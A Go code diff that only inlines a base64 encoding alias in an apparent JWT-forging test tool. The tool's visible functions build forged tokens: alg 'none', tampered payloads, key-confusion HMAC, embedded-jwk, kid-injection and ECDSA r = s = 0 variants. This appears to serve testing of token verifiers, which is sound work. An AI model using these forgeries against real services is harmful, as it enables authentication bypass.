@@ -48,23 +48,21 @@ type Forger struct {
 	sig        []byte
 }
 
-var b64 = base64.RawURLEncoding
-
 // NewForger splits raw (a compact JWS with a JSON object payload).
 func NewForger(raw string) (*Forger, error) {
 	parts := strings.Split(stripBearer(raw), ".")
 	if len(parts) != 3 {
 		return nil, fmt.Errorf("%w: want 3 segments, got %d", ErrForge, len(parts))
 	}
-	hb, err := b64.DecodeString(parts[0])
+	hb, err := base64.RawURLEncoding.DecodeString(parts[0])
 	if err != nil {
 		return nil, fmt.Errorf("%w: header: %v", ErrForge, err)
 	}
-	pb, err := b64.DecodeString(parts[1])
+	pb, err := base64.RawURLEncoding.DecodeString(parts[1])
 	if err != nil {
 		return nil, fmt.Errorf("%w: payload: %v", ErrForge, err)
 	}
-	sig, err := b64.DecodeString(parts[2])
+	sig, err := base64.RawURLEncoding.DecodeString(parts[2])
 	if err != nil {
 		return nil, fmt.Errorf("%w: signature: %v", ErrForge, err)
 	}
@@ -121,7 +119,7 @@ func encodeSeg(m map[string]any) string {
 	enc := json.NewEncoder(&buf)
 	enc.SetEscapeHTML(false)
 	_ = enc.Encode(m) // maps of JSON-decoded values always encode
-	return b64.EncodeToString(bytes.TrimSuffix(buf.Bytes(), []byte("\n")))
+	return base64.RawURLEncoding.EncodeToString(bytes.TrimSuffix(buf.Bytes(), []byte("\n")))
 }
 
 // withHeader returns the header segment with the changes applied (nil
@@ -144,7 +142,7 @@ func (f *Forger) TamperedPayload() Forged {
 	c := cloneMap(f.claims)
 	sub, _ := c["sub"].(string)
 	c["sub"] = sub + "-tampered"
-	return Forged{Label: "sub changed, original signature kept", Token: f.headerSeg + "." + encodeSeg(c) + "." + b64.EncodeToString(f.sig)}
+	return Forged{Label: "sub changed, original signature kept", Token: f.headerSeg + "." + encodeSeg(c) + "." + base64.RawURLEncoding.EncodeToString(f.sig)}
 }
 
 // BadSignature flips bits in the first and last signature bytes (a broken
@@ -157,7 +155,7 @@ func (f *Forger) BadSignature() Forged {
 		s[0] ^= 0x5a
 		s[len(s)-1] ^= 0xa5
 	}
-	return Forged{Label: "signature bytes altered", Token: f.headerSeg + "." + f.payloadSeg + "." + b64.EncodeToString(s)}
+	return Forged{Label: "signature bytes altered", Token: f.headerSeg + "." + f.payloadSeg + "." + base64.RawURLEncoding.EncodeToString(s)}
 }
 
 // NullSignature drops the signature and keeps the original alg
@@ -191,7 +189,7 @@ func (f *Forger) AlgNone() []Forged {
 	}
 	h := f.withHeader(map[string]any{"alg": "none"})
 	out = append(out,
-		Forged{Label: `alg "none", original signature kept`, Token: h + "." + f.payloadSeg + "." + b64.EncodeToString(f.sig)},
+		Forged{Label: `alg "none", original signature kept`, Token: h + "." + f.payloadSeg + "." + base64.RawURLEncoding.EncodeToString(f.sig)},
 		Forged{Label: `alg "none", no signature segment`, Token: h + "." + f.payloadSeg},
 	)
 	return out
@@ -215,7 +213,7 @@ func (f *Forger) hmacVariant(alg string, key []byte, extra map[string]any, label
 	input := f.withHeader(changes) + "." + f.payloadSeg
 	mac := hmac.New(hmacHash(alg), key)
 	mac.Write([]byte(input))
-	return Forged{Label: label, Token: input + "." + b64.EncodeToString(mac.Sum(nil))}
+	return Forged{Label: label, Token: input + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil))}
 }
 
 func hmacHash(alg string) func() hash.Hash {
@@ -264,7 +262,7 @@ func PublicKeyEncodings(pub crypto.PublicKey) ([]KeyEncoding, error) {
 func publicJWK(pub crypto.PublicKey) (map[string]any, error) {
 	switch k := pub.(type) {
 	case *rsa.PublicKey:
-		return map[string]any{"kty": "RSA", "n": b64.EncodeToString(k.N.Bytes()), "e": b64.EncodeToString(big.NewInt(int64(k.E)).Bytes())}, nil
+		return map[string]any{"kty": "RSA", "n": base64.RawURLEncoding.EncodeToString(k.N.Bytes()), "e": base64.RawURLEncoding.EncodeToString(big.NewInt(int64(k.E)).Bytes())}, nil
 	case *ecdsa.PublicKey:
 		ecdh, err := k.ECDH()
 		if err != nil {
@@ -272,9 +270,9 @@ func publicJWK(pub crypto.PublicKey) (map[string]any, error) {
 		}
 		raw := ecdh.Bytes() // 0x04 || X || Y
 		n := (len(raw) - 1) / 2
-		return map[string]any{"kty": "EC", "crv": k.Curve.Params().Name, "x": b64.EncodeToString(raw[1 : 1+n]), "y": b64.EncodeToString(raw[1+n:])}, nil
+		return map[string]any{"kty": "EC", "crv": k.Curve.Params().Name, "x": base64.RawURLEncoding.EncodeToString(raw[1 : 1+n]), "y": base64.RawURLEncoding.EncodeToString(raw[1+n:])}, nil
 	case ed25519.PublicKey:
-		return map[string]any{"kty": "OKP", "crv": "Ed25519", "x": b64.EncodeToString(k)}, nil
+		return map[string]any{"kty": "OKP", "crv": "Ed25519", "x": base64.RawURLEncoding.EncodeToString(k)}, nil
 	}
 	return nil, fmt.Errorf("%w: unsupported public key type %T", ErrForge, pub)
 }
@@ -332,7 +330,7 @@ func (f *Forger) EmbeddedJWK() (Forged, error) {
 	if err != nil {
 		return Forged{}, err
 	}
-	return Forged{Label: alg + " signed with a fresh key embedded in the jwk header", Token: input + "." + b64.EncodeToString(sig)}, nil
+	return Forged{Label: alg + " signed with a fresh key embedded in the jwk header", Token: input + "." + base64.RawURLEncoding.EncodeToString(sig)}, nil
 }
 
 // KIDInjection returns HS256 variants whose kid points a naive key lookup at
@@ -360,10 +358,10 @@ func (f *Forger) PsychicSignature() []Forged {
 		alg  string
 		size int
 	}{{"ES256", 64}, {"ES384", 96}, {"ES512", 132}} {
-		out = append(out, Forged{Label: a.alg + " with r = s = 0", Token: f.withHeader(map[string]any{"alg": a.alg}) + "." + f.payloadSeg + "." + b64.EncodeToString(make([]byte, a.size))})
+		out = append(out, Forged{Label: a.alg + " with r = s = 0", Token: f.withHeader(map[string]any{"alg": a.alg}) + "." + f.payloadSeg + "." + base64.RawURLEncoding.EncodeToString(make([]byte, a.size))})
 	}
 	der := []byte{0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00}
-	out = append(out, Forged{Label: alg + " with r = s = 0 in DER form", Token: f.headerSeg + "." + f.payloadSeg + "." + b64.EncodeToString(der)})
+	out = append(out, Forged{Label: alg + " with r = s = 0 in DER form", Token: f.headerSeg + "." + f.payloadSeg + "." + base64.RawURLEncoding.EncodeToString(der)})
 	return out
 }
 
@@ -561,7 +559,7 @@ func signWith(key *keys.Key, alg, headerSeg string, claims map[string]any) (stri
 	if err != nil {
 		return "", err
 	}
-	return input + "." + b64.EncodeToString(sig), nil
+	return input + "." + base64.RawURLEncoding.EncodeToString(sig), nil
 }
 
 // signInput computes a JWS signature over input.
